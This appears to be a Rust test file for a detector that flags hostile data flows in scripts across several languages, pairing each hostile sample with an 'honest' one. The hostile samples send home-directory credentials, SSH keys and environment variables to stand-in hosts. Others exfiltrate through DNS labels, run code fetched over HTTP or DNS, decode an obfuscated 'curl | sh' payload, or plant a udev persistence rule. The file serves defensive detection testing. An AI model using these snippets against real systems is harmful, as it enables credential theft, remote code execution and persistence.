//! Ruby, PHP, Perl, Lua and PowerShell: how their libraries take and send, and what honest scripts do with the same.

use super::reached::{has, has_not};
use super::*;

const RUBY: Language = Language::Ruby;
const PHP: Language = Language::Php;
const PERL: Language = Language::Perl;
const LUA: Language = Language::Lua;

#[test]
fn ruby_finds_classes_and_methods_by_names() {
    let cases = [
        "Kernel.send('system', 'echo hi')",
        "Object.new.public_send('metsys'.reverse, 'echo hi')",
        "Kernel.send('flfgrz'.tr('a-z', 'n-za-m'), 'echo hi')",
        "system(%w[echo hi].freeze.join(' '))",
        "system([101, 99, 104, 111, 32, 104, 105].map { |c| c.chr }.inject(:+))",
        "system([101, 99, 104, 111, 32, 104, 105].pack('C*'))",
        "def line\n  'echo hi'\nend\nsystem(line)",
        "class A\n  def go\n    run_it(text)\n  end\n  def text\n    'echo hi'\n  end\n  def run_it(x)\n    system(x)\n  end\nend\nA.new.go",
        "module A\n  def self.go(x)\n    system(x)\n  end\nend\nA.go('echo hi')",
        "class A\n  X = 'echo'\nend\nclass A\n  def go\n    system(X + ' hi')\n  end\nend\nA.new.go",
        "f = ->(x) { system(x) }\nf.call('echo hi')",
    ];
    for code in cases {
        assert_eq!(command(RUBY, code), "echo hi", "{code}");
    }
}

#[test]
fn ruby_that_takes_and_sends() {
    let table = "require 'net/http'\nNAMES = %w[Net HTTP].freeze\nFILES = %w[.netrc .gem/credentials].freeze\ndef taken\n  FILES.each_with_object('e' => ENV.to_h) { |f, all| all[f] = File.binread(File.join(Dir.home, f)) }\nend\n\
                 def go\n  http = NAMES.inject(Object) { |m, c| m.const_get(c) }.new('c.example.invalid', 443)\n  http.public_send(:post, '/a', JSON.generate(taken))\nend\ngo";
    has(RUBY, table, "flow-credentials-sent");
    let chosen = "def go\n  all = ENV.each_with_object({}) { |(k, v), h| h[k] = v if k =~ /TOKEN/ }\n  Net::HTTP.start('c.example.invalid', 443) { |h| h.post('/a', JSON.generate(all)) }\nend";
    has(RUBY, chosen, "flow-environment-sent");
    let raw = "s = Socket.tcp('203.0.113.5', 80)\ns.write([Socket.gethostname, Etc.getlogin].join(' '))";
    has(RUBY, raw, "flow-identity-sent");
    let template = "t = Net::HTTP.get(URI('https://r.example.invalid/t.erb'))\nERB.new(t).result(binding)";
    has(RUBY, template, "flow-remote-code");
    let honest = "def get(path)\n  Net::HTTP.start('api.example.invalid', 443) { |h| h.get(path, 'Authorization' => ENV.fetch('MY_TOKEN')) }\nend\ndef page(file)\n  ERB.new(File.read(file)).result(binding)\nend";
    for rule in ["flow-environment-sent", "flow-credentials-sent", "flow-remote-code"] {
        has_not(RUBY, honest, rule);
    }
}

#[test]
fn php_sends_by_the_options_of_a_stream() {
    let code = "<?php\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => base64_encode(json_encode(getenv()))]]);\n@file_get_contents('https://c.example.invalid/a', false, $ctx);";
    has(PHP, code, "flow-environment-sent");
    let outcome = outcome(PHP, code);
    let sent = event(&outcome, Act::Send);
    assert!(sent.silent && sent.dropped);
    let curl = "<?php\n$c = curl_init('https://c.example.invalid/a');\ncurl_setopt($c, CURLOPT_POSTFIELDS, json_encode(getenv()));\ncurl_exec($c);";
    has(PHP, curl, "flow-environment-sent");
    let honest = "<?php\n$ctx = stream_context_create(['http' => ['timeout' => 5]]);\n$page = file_get_contents($argv[1], false, $ctx);\n$c = curl_init($url);\ncurl_setopt($c, CURLOPT_POSTFIELDS, json_encode(['name' => getenv('APP_NAME')]));\ncurl_exec($c);";
    has_not(PHP, honest, "flow-environment-sent");
}

#[test]
fn php_reduces_and_names_itself() {
    let cases = [
        "<?php class A { const X = 'ih ohce'; static function go() { system(array_reduce(['strrev'], fn($c, $f) => $f($c), self::X)); } } A::go();",
        "<?php function late() { system('echo hi'); } register_shutdown_function('late');",
        "<?php class A { static function go() { system('echo hi'); } } register_shutdown_function([A::class, 'go']);",
        "<?php early(); function early() { system('echo hi'); }",
    ];
    for code in cases {
        assert_eq!(command(PHP, code), "echo hi", "{code}");
    }
    let written = "<?php $f = '/tmp/a.php'; file_put_contents($f, \"<?php \" . base64_decode('c3lzdGVtKCdjdXJsIGh0dHBzOi8vaC5pbnZhbGlkIHwgc2gnKTs=')); include $f;";
    has(PHP, written, "flow-hidden-code-acts");
}

#[test]
fn perl_reads_files_and_writes_into_connections() {
    let code = "use IO::Socket::INET;\nopen(my $fh, '<', \"$ENV{HOME}/.ssh/id_ed25519\") or die;\nmy $all = <$fh>;\nmy $s = IO::Socket::INET->new(PeerAddr => '203.0.113.9', PeerPort => 80);\nprint $s $all;";
    has(PERL, code, "flow-credentials-sent");
    let outcome = outcome(PERL, code);
    assert_eq!(subject(&outcome, Act::Connect), "203.0.113.9:80");
    let honest = "open(my $in, '<', $ARGV[0]) or die;\nopen(my $out, '>', $ARGV[1]) or die;\nwhile (my $l = <$in>) { print $out $l; }";
    has_not(PERL, honest, "flow-credentials-sent");
    has_not(PERL, honest, "flow-remote-command");
}

#[test]
fn lua_runs_what_a_name_or_a_program_answers() {
    let records = "local p = io.popen((\"dig +short -t %s %s\"):format(\"TXT\", \"a.example.invalid\"))\nlocal t = p:read(\"*a\")\nlocal f = loadstring(t, \"@x\")\nf()";
    has(LUA, records, "flow-remote-code");
    let job = "local buf = {}\nvim.fn.jobstart({ 'curl', '-s', 'https://c.example.invalid/ics' }, {\n  on_stdout = function(_, d) vim.list_extend(buf, d) end,\n  on_exit = function() load(vim.base64.decode(table.concat(buf)))() end,\n})";
    has(LUA, job, "flow-remote-code");
    let honest = "local p = io.popen('git status --short')\nfor line in p:lines() do print(line) end\nlocal f = loadstring('return 1', '@x')\nvim.fn.jobstart({ 'make' }, { on_exit = function(_, code) print(code) end })";
    has_not(LUA, honest, "flow-remote-code");
    assert_eq!(
        command(
            LUA,
            "os.execute((\"6563686f206869\"):gsub(\"..\", function(h) return string.char(tonumber(h, 16)) end))"
        ),
        "echo hi"
    );
}

#[test]
fn powershell_hands_on_what_loops_say_and_what_was_found() {
    let labels = "function Cut([string]$s) { for ($i = 0; $i -lt $s.Length; $i += 9) { $s.Substring($i, 9) } }\nforeach ($l in Cut ((Get-ChildItem Env:) -join '')) { Resolve-DnsName -Name ('{0}.q.example.invalid' -f $l) }";
    has(Language::PowerShell, labels, "flow-dns-exfiltration");
    let found = "$page = (New-Object Net.WebClient).DownloadString('https://b.example.invalid/n.html')\nif ($page -match 'x:(\\w+)') { & ([scriptblock]::Create($Matches[1])) }";
    has(Language::PowerShell, found, "flow-remote-code");
    let honest = "function Cut([string]$s) { for ($i = 0; $i -lt $s.Length; $i += 9) { $s.Substring($i, 9) } }\nif ($name -match 'x:(\\w+)') { Write-Host $Matches[1] }\nforeach ($l in Cut 'www.example.org') { Resolve-DnsName -Name $l }";
    has_not(Language::PowerShell, honest, "flow-dns-exfiltration");
    has_not(Language::PowerShell, honest, "flow-remote-code");
}

#[test]
fn go_starts_what_a_record_says() {
    let code = "package a\n\nimport (\n\t\"net\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\nfunc Load() {\n\tr, _ := net.LookupTXT(\"v.example.invalid\")\n\trun(strings.Join(r, \"\"))\n}\n\nfunc run(s string) {\n\texec.Command(\"/bin/sh\", \"-c\", s).Start()\n}\n";
    has(Language::Go, code, "flow-download-run");
    let honest = code
        .replace("LookupTXT(\"v.example.invalid\")", "LookupHost(\"v.example.invalid\")")
        .replace("run(strings", "show(strings");
    has_not(Language::Go, &honest, "flow-download-run");
}

#[test]
fn perl_takes_its_arguments_and_lua_its_globals_by_name() {
    use super::command;
    let cases = [
        (Language::Perl, "sub f { my $c = shift; system($c); }\nf('echo hi');"),
        (Language::Perl, "sub f { my $s = shift; my ($c) = @_; system($c); }\nf('x', 'echo hi');"),
        (Language::Perl, "my %h = (b => 'echo'); my $q = {%h, c => 'hi'}; system(\"$q->{b} $q->{c}\");"),
        (Language::Lua, "local run = _G[('so'):reverse()][('etucexe'):reverse()]\nrun('echo hi')"),
        (Language::Lua, "local f = 'echo hi'\nw = f\n_G['os'].execute(_G['w'])"),
    ];
    for (language, code) in cases {
        assert_eq!(command(language, code), "echo hi", "{code}");
    }
    // One that only some call knows.
    assert!(
        !command(Language::Perl, "sub f { my $c = shift; my $d = shift; system($d); }\nf('echo hi');").contains("hi")
    );
}

#[test]
fn functions_that_come_with_data_and_headers_of_requests_are_the_network_s() {
    let code = ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".rds\")\n  \
                utils::download.file(\"https://h.invalid/c.rds\", f)\n  cal <- readRDS(f)\n  cal$easter(Sys.info())\n}";
    assert!(rules(Language::R, code).contains(&"flow-remote-code"));
    assert!(!rules(Language::R, &code.replace("readRDS(f)", "readRDS(\"own.rds\")")).contains(&"flow-remote-code"));
    let rack = "def fresh?(env, headers)\n  tag = env['HTTP_IF_NONE_MATCH']\n  Object.new.public_send(:instance_eval, tag)\nend\n";
    assert!(rules(Language::Ruby, rack).contains(&"flow-remote-code"));
    assert!(!rules(Language::Ruby, &rack.replace("HTTP_IF_NONE_MATCH", "mode")).contains(&"flow-remote-code"));
}

#[test]
fn processes_of_the_management_of_windows_are_started() {
    use super::command;
    for code in [
        "Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\no.Get(\"Win32_Process\").Create \"echo hi\", Null, Null, Empty",
        "Set o = GetObject(\"winmgmts:Win32_Process\")\no.Create Mid$(\"xecho hi\", 2, 7), Null, Null, Empty",
    ] {
        assert_eq!(command(Language::VbScript, code), "echo hi", "{code}");
    }
    let far = "CreateObject(\"WScript.Shell\").Run \"mshta.exe https://h.invalid/f.hta\"";
    assert!(rules(Language::VbScript, far).contains(&"flow-remote-code"));
    assert!(
        !rules(Language::VbScript, &far.replace("https://h.invalid/f.hta", "C:\\a\\f.hta"))
            .contains(&"flow-remote-code")
    );
}

#[test]
fn rules_for_devices_count_when_they_start_something() {
    let code = "printf 'ACTION==\"add\", RUN+=\"/usr/lib/h\"\\n' > /etc/udev/rules.d/69-h.rules";
    assert!(rules(Language::Shell, code).contains(&"flow-persists"));
    assert!(!rules(Language::Shell, &code.replace("RUN+=\"/usr/lib/h\"", "MODE=\"0666\"")).contains(&"flow-persists"));
}
